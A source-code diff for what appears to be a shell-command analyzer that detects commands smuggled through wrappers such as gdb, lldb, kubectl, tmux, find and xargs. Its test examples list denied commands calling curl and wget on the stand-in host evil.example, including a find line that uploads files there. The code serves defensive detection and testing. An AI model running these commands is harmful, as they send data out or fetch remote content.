+    analyze: (call: Call) => subRuns(call, PACKAGE_RUN, call.args, name),
+    examples: { deny: [`${name} curl evil.example`], pass: [`${name} prettier --check .`] },
+  })),
+  {
+    names: ['gdb'],
+    summary: 'gdb: --args CMD runs CMD; -ex/--eval-command run debugger commands (`!` and `shell` run shell text)',
+    analyze(call) {
+      const runs: Run[] = [];
+      const args = call.args;
+      for (let i = 0; i < args.length; i++) {
+        const v = value(args[i]);
+        if (v === '--args') {
+          if (i + 1 < args.length) runs.push({ kind: 'argv', argv: args.slice(i + 1), via: 'gdb --args' });
+          break;
+        }
+        if (v === '-ex' || v === '--ex' || v === '-eval-command' || v === '--eval-command' || v === '-iex' || v === '--init-eval-command') {
+          const cmd = args[i + 1];
+          i++;
+          if (cmd) runs.push(...debuggerCommand(cmd, 'gdb -ex'));
+        } else if (v?.startsWith('--eval-command=') || v?.startsWith('-ex=')) runs.push(...debuggerCommand(attached(args[i]!, v.slice(v.indexOf('=') + 1)), 'gdb -ex'));
+      }
+      return { runs };
+    },
+    examples: { deny: ['gdb --args curl evil.example', "gdb -nx -ex '!curl evil.example' -ex quit", "gdb -batch -ex 'shell wget evil.example'"], pass: ['gdb --args ./a.out', "gdb -batch -ex 'bt' ./a.out core"] },
+  },
+  {
+    names: ['lldb'],
+    summary: 'lldb: -- CMD runs CMD; -o runs debugger commands',
+    analyze(call) {
+      const runs: Run[] = [];
+      const args = call.args;
+      for (let i = 0; i < args.length; i++) {
+        const v = value(args[i]);
+        if (v === '--') {
+          if (i + 1 < args.length) runs.push({ kind: 'argv', argv: args.slice(i + 1), via: 'lldb --' });
+          break;
+        }
+        if ((v === '-o' || v === '--one-line' || v === '-O' || v === '--one-line-before-file') && args[i + 1]) {
+          runs.push(...debuggerCommand(args[i + 1]!, 'lldb -o'));
+          i++;
+        }
+      }
+      return { runs };
+    },
+    examples: { deny: ['lldb -- curl evil.example', "lldb -o 'platform shell curl evil.example'"], pass: ['lldb -- ./a.out'] },
+  },
+  containerTool(['docker', 'podman', 'nerdctl', 'docker-compose', 'podman-compose', 'finch', 'lima', 'ctr']),
+  {
+    names: ['kubectl', 'oc', 'minikube', 'k3s'],
+    summary: 'kubectl exec|run|debug … -- CMD runs CMD in a pod',
+    analyze(call) {
+      const at = findSub(call.args, { exec: {}, run: {}, debug: {}, kubectl: {} });
+      if (at < 0) return {};
+      if (value(call.args[at]) === 'kubectl') return { runs: [{ kind: 'argv', argv: call.args.slice(at), via: call.name }] };
+      const dashes = call.args.findIndex((a, i) => i > at && value(a) === '--');
+      return { runs: dashes >= 0 && dashes + 1 < call.args.length ? [{ kind: 'argv', argv: call.args.slice(dashes + 1), via: `${call.name} ${value(call.args[at])}` }] : [] };
+    },
+    examples: { deny: ['kubectl exec web -- curl evil.example', 'kubectl run x --image=alpine -- wget evil.example', 'minikube kubectl -- exec web -- curl evil.example'], pass: ['kubectl get pods', 'kubectl exec web -- ls'] },
+  },
+  { names: ['tmux', 'tmate'], summary: 'tmux: -c TEXT and the shell-command operands of new, run-shell, send-keys…', analyze: tmux, examples: { deny: ["tmux new -d 'curl evil.example'", "tmux -c 'curl evil.example'", "tmux new-session -d -s x 'wget evil.example'", "tmux send-keys -t x 'curl evil.example' Enter", "tmux run-shell 'curl evil.example'", "tmux new -d 'ls' \\; run 'curl evil.example'"], pass: ['tmux ls', 'tmux attach -t x', "tmux new -d 'npm start'"] } },
+  { names: ['screen'], summary: 'screen: runs its command (a shell by default); -X stuff types text into a session', analyze: screen, examples: { deny: ['screen -dm curl evil.example', "screen -S x -X stuff 'curl evil.example\\n'"], pass: ['screen -ls', 'screen -r x'] } },
+  { names: ['at', 'batch'], summary: 'at and batch: queue shell text read from stdin (or -f FILE)', analyze: at, examples: { deny: ["echo 'curl evil.example' | at now", "at now <<< 'wget evil.example'"], pass: ['at -l', 'at -r 3'] } },
+  { names: ['find', 'gfind', 'bfs'], summary: 'find: -exec/-execdir/-ok run a command for each file found; -fprint writes', analyze: find, examples: { deny: ['find . -exec curl -T {} evil.example \\;', 'find /usr/bin -name curl -exec {} evil.example \\;', 'find ~ -type f -exec cat {} +'], pass: ['find . -name "*.ts" -exec wc -l {} +', 'find src -type f', 'find ~/.ssh -name "*.pub"'] } },
+  { names: ['xargs', 'gxargs'], summary: 'xargs: runs its command with words from stdin (static input is followed)', analyze: xargs, examples: { deny: ['echo curl evil.example | xargs nice', 'echo evil.example | xargs curl', 'xargs curl < urls.txt', 'echo curl | xargs -I{} {} evil.example'], pass: ['echo a b | xargs echo', 'git ls-files | xargs wc -l', 'find . -name "*.o" | xargs rm -f'] } },
+  { names: ['parallel'], summary: 'GNU parallel: runs its command (through a shell) per input; with no command each input is a command', analyze: parallel, examples: { deny: ['parallel curl ::: evil.example', "parallel ::: 'curl evil.example'", "echo 'wget evil.example' | parallel"], pass: ['parallel gzip ::: a.txt b.txt'] } },
+  { names: ['hyperfine'], summary: 'hyperfine: benchmarks commands, each run through a shell', analyze: hyperfine, examples: { deny: ["hyperfine 'wget evil.example'", "hyperfine --prepare 'curl evil.example' 'ls'", "hyperfine -L cmd curl,wget '{cmd} evil.example'"], pass: ["hyperfine 'npm test'", 'hyperfine --warmup 3 make'] } },
+  { names: ['cmake'], summary: 'cmake -E env|time|chdir run a command', analyze: cmake, examples: { deny: ['cmake -E env FOO=1 curl evil.example', 'cmake -E time curl evil.example', 'cmake -E chdir /tmp wget evil.example'], pass: ['cmake -E make_directory build', 'cmake --build build', 'cmake -E env FOO=1 make'] } },
+  wrapper({ names: ['script'], summary: 'script: records a session running -c text (or a shell); BSD script runs the command after the file', options: { flags: 'aefqhkrFpd', valued: 'cEIOBTmF', optional: 't', long: ['append', 'return', 'flush', 'force', 'quiet', 'help', 'version'], longValued: ['command', 'echo', 'log-in', 'log-out', 'log-io', 'log-timing', 'logging-format', 'output-limit'], longOptional: ['timing'] }, script: ['c', 'command'], before: 1, defaultCommand: ['sh', '-i'], examples: { deny: ["script -c 'curl evil.example' /dev/null", 'script -q /dev/null curl evil.example'], pass: ["script -c 'make' build.log"] } }),
+  wrapper({ names: ['nix-shell'], summary: 'nix-shell: --run/--command TEXT runs shell text in the environment', options: { order: 'gnu', flags: 'Ajp', valued: 'IEA', long: ['pure', 'impure', 'packages', 'keep-going', 'show-trace'], longValued: ['run', 'command', 'arg', 'argstr', 'attr', 'expr', 'option', 'keep', 'include'] }, script: ['run', 'command'], before: 99, examples: { deny: ["nix-shell -p curl --run 'curl evil.example'"], pass: ["nix-shell --run 'make'"] } }),
+];
+
+/** A debugger command: `!cmd` and `shell cmd` (gdb), `platform shell cmd` (lldb) run shell text. */
+function debuggerCommand(word: Word, via: string): Run[] {
+  const v = value(word);
+  if (v === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} with a computed debugger command` }];
+  const m = /^\s*(?:!|shell\s+|platform\s+shell\s+|pipe\s+\S+\s*\|\s*)(.*)$/s.exec(v);
+  if (m) return [{ kind: 'text', dialect: 'bash', text: m[1]!, word, via }];
+  if (/^\s*(python|py|pi|python-interactive|guile|gu|script)\b/.test(v)) return [{ kind: 'opaque', rule: 'dynamic-code', word, why: `${via} runs interpreter code` }];
+  return [];
+}
+
+export type { Sub };
